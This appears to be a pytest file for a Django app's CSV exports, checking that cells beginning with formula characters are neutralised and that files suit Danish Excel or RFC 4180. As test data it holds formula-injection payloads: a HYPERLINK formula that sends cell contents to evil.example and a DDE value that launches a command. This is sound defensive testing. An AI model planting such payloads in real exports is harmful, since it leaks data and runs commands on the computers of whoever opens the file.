"""Exports: no cell a spreadsheet evaluates, and a CSV Danish Excel opens as it is.

An official of Copenhagen titles an innovation ``=HYPERLINK("http://…")`` and the committee
secretary writes a resolution beginning with ``+``; when the administrator opens the portfolio
or the decision log in Excel, those cells must be text. By default the CSV is for Danish
Excel; ``?format=rfc4180`` keeps the form machines read.
"""

from __future__ import annotations

import csv
import datetime
import io

import pytest
from django.test import Client
from django.urls import reverse
from rest_framework.test import APIClient

from innovations.csv_export import neutralise

from ..factories import DecisionFactory, InnovationFactory

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1;"Klik")'


def admin_browser(person) -> Client:
    client = Client()
    client.force_login(person)
    return client


def body_of(response) -> str:
    if response.streaming:
        return b"".join(response.streaming_content).decode("utf-8")
    return response.content.decode("utf-8")


def rows_of(text: str, delimiter: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff")), delimiter=delimiter))


@pytest.fixture
def hostile(copenhagen):
    """An innovation and a decision whose texts are formulas."""
    innovation = InnovationFactory(committee=copenhagen.committee, title=HYPERLINK)
    decision = DecisionFactory(
        innovation=innovation,
        meeting=copenhagen.meeting,
        agenda_item="@SUM(1+1)*cmd|' /C calc'!A0",
        resolution="+1+1",
        minority_statements="-2+3",
        value_direction="\tTAB",
        transition="mandate",
        outcome="approved",
    )
    return innovation, decision


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"])
def test_every_formula_prefix_is_neutralised(text):
    assert neutralise(text) == "'" + text


def test_ordinary_text_is_left_alone():
    assert neutralise("Velfærdsteknologi i hjemmeplejen") == "Velfærdsteknologi i hjemmeplejen"


@pytest.mark.parametrize("fmt", [None, "rfc4180"])
def test_the_portfolio_csv_never_exports_a_formula(copenhagen, hostile, fmt):
    innovation, _ = hostile
    query = {"format": fmt} if fmt else {}
    response = admin_browser(copenhagen.administrator).get(
        reverse("dashboard_portfolio_csv"), query
    )
    assert response.status_code == 200
    rows = rows_of(body_of(response), ";" if fmt is None else ",")
    (row,) = [r for r in rows[1:] if r[0] == str(innovation.pk)]
    assert row[1] == "'" + HYPERLINK


@pytest.mark.parametrize("fmt", [None, "rfc4180"])
def test_the_decision_csv_never_exports_a_formula(copenhagen, hostile, fmt):
    _, decision = hostile
    query = {"format": fmt} if fmt else {}
    response = admin_browser(copenhagen.administrator).get(
        reverse("dashboard_decisions_csv"), query
    )
    rows = rows_of(body_of(response), ";" if fmt is None else ",")
    (row,) = [r for r in rows[1:] if r[0] == str(decision.pk)]
    cells = set(row)
    assert "'" + HYPERLINK in cells
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in cells
    assert "'+1+1" in cells
    assert "'-2+3" in cells
    assert "'\tTAB" in cells
    for cell in row:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_the_portfolio_opens_in_danish_excel_by_default(copenhagen, hostile):
    innovation, _ = hostile
    response = admin_browser(copenhagen.administrator).get(reverse("dashboard_portfolio_csv"))
    text = body_of(response)

    assert text.startswith("\ufeff")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    header, *rows = rows_of(text, ";")
    assert header[:4] == ["id", "titel", "fase", "udvalg"]
    (row,) = [r for r in rows if r[0] == str(innovation.pk)]
    named = dict(zip(header, row, strict=True))
    assert named["fase"] == "Behov"
    assert named["udvalg"] == copenhagen.committee.name
    created = innovation.created_at.astimezone(datetime.UTC)
    assert named["oprettet"][:10].count("-") == 2
    assert named["oprettet"][6:10] == str(created.year)
    assert named["delt"] == "nej"


def test_the_decision_log_opens_in_danish_excel_by_default(copenhagen, hostile):
    _, _decision = hostile
    response = admin_browser(copenhagen.administrator).get(reverse("dashboard_decisions_csv"))
    header, *rows = rows_of(body_of(response), ";")
    assert "mødedato" in header and "udfald" in header
    named = dict(zip(header, rows[0], strict=True))
    assert named["mødedato"] == copenhagen.meeting.date.strftime("%d-%m-%Y")
    assert named["udfald"] == "Godkendt"
    assert named["faseovergang"] == "Giv mandat"  # the workflow's label


def test_rfc4180_keeps_the_machine_form(copenhagen, hostile):
    _, _decision = hostile
    response = admin_browser(copenhagen.administrator).get(
        reverse("dashboard_decisions_csv"), {"format": "rfc4180"}
    )
    text = body_of(response)
    assert not text.startswith("\ufeff")
    header, row = rows_of(text, ",")
    assert header[:4] == ["id", "meeting_date", "committee", "agenda_item"]
    named = dict(zip(header, row, strict=True))
    assert named["meeting_date"] == copenhagen.meeting.date.isoformat()
    assert named["outcome"] == "approved"
    assert named["transition"] == "mandate"
    assert datetime.datetime.fromisoformat(named["recorded_at"])
    assert "rfc4180" in response["Content-Disposition"]


def test_an_unknown_format_is_refused(copenhagen):
    browser = admin_browser(copenhagen.administrator)
    for name in ("dashboard_portfolio_csv", "dashboard_decisions_csv", "barometer_csv"):
        assert browser.get(reverse(name), {"format": "xls"}).status_code == 400
    api = APIClient()
    api.force_authenticate(copenhagen.administrator)
    assert api.get("/api/v1/barometer/csv/", {"format": "xls"}).status_code == 400


def test_the_barometer_csv_has_both_forms_on_the_web_and_the_api(copenhagen):
    InnovationFactory(committee=copenhagen.committee, collaborators=["citizens"])
    InnovationFactory(committee=copenhagen.committee)
    InnovationFactory(committee=copenhagen.committee)
    api = APIClient()
    api.force_authenticate(copenhagen.politician)
    browser = admin_browser(copenhagen.politician)
    period = {"start": "2020-01-01", "end": datetime.date.today().isoformat()}

    for excel in (browser.get("/barometer.csv", period), api.get("/api/v1/barometer/csv/", period)):
        assert excel.status_code == 200
        text = body_of(excel)
        assert text.startswith("\ufeff")
        rows = rows_of(text, ";")
        assert rows[0][2:] == ["01-01-2020", datetime.date.today().strftime("%d-%m-%Y")]
        assert rows[1][:4] == ["gruppe", "tal", "nøgle", "antal"]
        by_key = {row[2]: row for row in rows[2:] if len(row) > 2}
        assert by_key["collaboration"][5] == "33,3"

    for machine in (
        browser.get("/barometer.csv", {**period, "format": "rfc4180"}),
        api.get("/api/v1/barometer/csv/", {**period, "format": "rfc4180"}),
    ):
        assert machine.status_code == 200
        text = body_of(machine)
        assert not text.startswith("\ufeff")
        rows = rows_of(text, ",")
        assert rows[0][2] == "2020-01-01"
        assert rows[1][:4] == ["group", "figure", "key", "count"]
        by_key = {row[2]: row for row in rows[2:] if len(row) > 2}
        assert by_key["collaboration"][5] == "33.3"
